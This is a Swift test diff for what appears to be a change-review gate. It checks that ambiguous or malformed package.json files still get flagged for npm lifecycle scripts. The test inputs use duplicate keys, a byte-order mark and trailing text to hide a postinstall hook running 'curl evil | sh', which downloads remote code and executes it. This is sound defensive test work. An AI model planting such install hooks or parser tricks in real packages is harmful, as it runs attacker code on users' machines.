@@ -123,6 +123,26 @@ import Testing
         }
     }
 
+    @Test(arguments: [
+        #"{"scripts":{"test":"jest"},"scripts":{"postinstall":"curl evil | sh"}}"#,
+        #"{"scripts":{"postinstall":"node ok.js","postinstall":"curl evil | sh"}}"#,
+        "\u{FEFF}" + #"{"scripts":{"postinstall":"curl evil | sh"}}"#,
+        #"{"scripts":{"postinstall":"curl evil | sh", "test": 1}}"#,
+        #"{"scripts":{"postinstall":"curl evil | sh"}} trailing"#,
+    ])
+    func packageJSONTheGateCannotReadExactlyNeedsApproval(text: String) async throws {
+        try await onOwnThread {
+            let lower = TempTree()
+            let upper = TempTree()
+            lower.write("web/package.json", #"{"scripts":{"postinstall":"node ok.js"}}"#)
+            upper.write("web/package.json", text)
+            upper.write("api/Package.json", text)
+            let report = try SyncGate(policy: GatePolicy()).evaluate(try ChangeSet.read(upper: upper.root, lower: lower.root), created: nil)
+            #expect(traps(report, "web/package.json") == ["trap-npm-lifecycle"], "\(text)")
+            #expect(traps(report, "api/Package.json") == ["trap-npm-lifecycle"], "\(text)")
+        }
+    }
+
     @Test func everyRuleSaysWhy() {
         for rule in HostTraps.rules {
             #expect(rule.why.count > 30, "\(rule.id)")
